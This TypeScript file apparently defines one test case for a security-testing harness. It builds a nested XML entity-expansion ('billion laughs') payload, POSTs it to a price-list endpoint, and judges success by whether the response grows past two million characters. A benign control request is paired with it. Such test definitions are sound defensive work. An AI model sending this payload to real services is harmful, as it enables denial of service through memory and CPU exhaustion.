import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'

/** Blows one kilobyte of entities up to megabytes. */
export const xxeExpansion: Attack = defineAttack({
  id: 'xxe-expansion',
  class: 'xxe',
  title: 'Blows one kilobyte of entities up to megabytes',
  cwe: 776,
  capec: 197,
  technique: 'T1499.004',
  preconditions: [],

  steps: ({ visitor }) => {
    const levels = ['a', 'b', 'c', 'd', 'e', 'f'].map((name, index, names) => {
      const before = names[index - 1]
      return `<!ENTITY ${name} "${before === undefined ? 'lol lol lol ' : `&${before};`.repeat(12)}">`
    })
    const body = `<!DOCTYPE p [${levels.join('')}]><prices><price product="1">&f;</price></prices>`
    return visitor.send({
      method: 'POST',
      path: '/api/price-list',
      headers: { 'content-type': 'application/xml' },
      body,
    })
  },
  oracle: (answer) => Number(/"characters":(\d+)/.exec(answer.text)?.[1] ?? 0) > 2_000_000,
  twin: ({ visitor }) =>
    visitor.send({
      method: 'POST',
      path: '/api/price-list',
      headers: { 'content-type': 'application/xml' },
      body: '<?xml version="1.0"?><prices><price product="4">79.00</price><price product="5">239.00</price></prices>',
    }),
})
